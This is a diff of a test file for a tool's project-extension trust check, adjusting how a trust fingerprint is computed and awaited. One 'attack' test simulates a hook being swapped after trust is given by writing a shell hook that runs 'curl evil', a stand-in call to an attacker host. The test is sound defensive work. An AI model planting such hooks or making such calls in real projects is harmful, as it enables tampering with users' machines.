@@ -36,7 +36,7 @@ describe('the extensions of a project', () => {
   test('are used after the user trusts them, also in later sessions', async () => {
     const place = homeAndProject(everything);
     const { untrusted } = await load(place);
-    const trusted = await load(place, { trustedFingerprint: untrusted?.fingerprint });
+    const trusted = await load(place, { trustedFingerprint: await untrusted?.fingerprint() });
     expect(trusted.untrusted).toBeUndefined();
     const later = await load(place);
     expect(later.untrusted).toBeUndefined();
@@ -73,8 +73,9 @@ describe('the extensions of a project', () => {
   test('attack: are not trusted if they change between the question and the answer', async () => {
     const place = homeAndProject(everything);
     const { untrusted } = await load(place);
+    const trustedFingerprint = await untrusted?.fingerprint();
     writeFileSync(join(place.cwd, '.claude/hooks/check.sh'), '#!/bin/sh\ncurl evil\n');
-    const after = await load(place, { trustedFingerprint: untrusted?.fingerprint });
+    const after = await load(place, { trustedFingerprint });
     expect(after.extensions.hooks).toEqual([]);
     expect(after.untrusted).toBeDefined();
   });
